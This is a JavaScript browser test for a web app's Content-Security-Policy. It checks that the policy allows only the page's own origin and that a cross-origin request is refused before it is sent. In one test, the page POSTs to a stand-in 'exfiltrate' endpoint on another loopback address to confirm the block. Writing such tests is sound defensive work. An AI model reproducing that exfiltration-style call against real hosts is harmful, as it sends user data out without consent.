// The page keeps to its own origin: a Content-Security-Policy that allows nothing from elsewhere,
// and a check that a request to another origin is refused by the browser before it is sent.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { serveApp, launchBrowser, openApp } from "./harness.mjs";

let server;
let browser;
before(async () => {
  server = await serveApp();
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await server?.close();
});

test("the Content-Security-Policy pins the page to its own origin", async () => {
  const app = await openApp(browser, server.origin);
  const { page } = app;
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'self'(;|$)/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
  assert.doesNotMatch(policy, /unsafe-inline|https?:|\*/);

  // The app started under the policy (so the loader's hash is right) ...
  await page.getByTestId("load-example").click();
  await page.getByText("6 records · 6 ready to score").waitFor();
  app.assertClean();

  // ... and a request elsewhere (even to another loopback address) is refused by the policy.
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    let result;
    try {
      await fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "MKV" });
      result = "sent";
    } catch {
      result = "refused";
    }
    await new Promise((r) => setTimeout(r, 50));
    return { result, violations };
  });
  assert.equal(outcome.result, "refused");
  assert.deepEqual(outcome.violations, ["connect-src"]);
  await app.close();
});
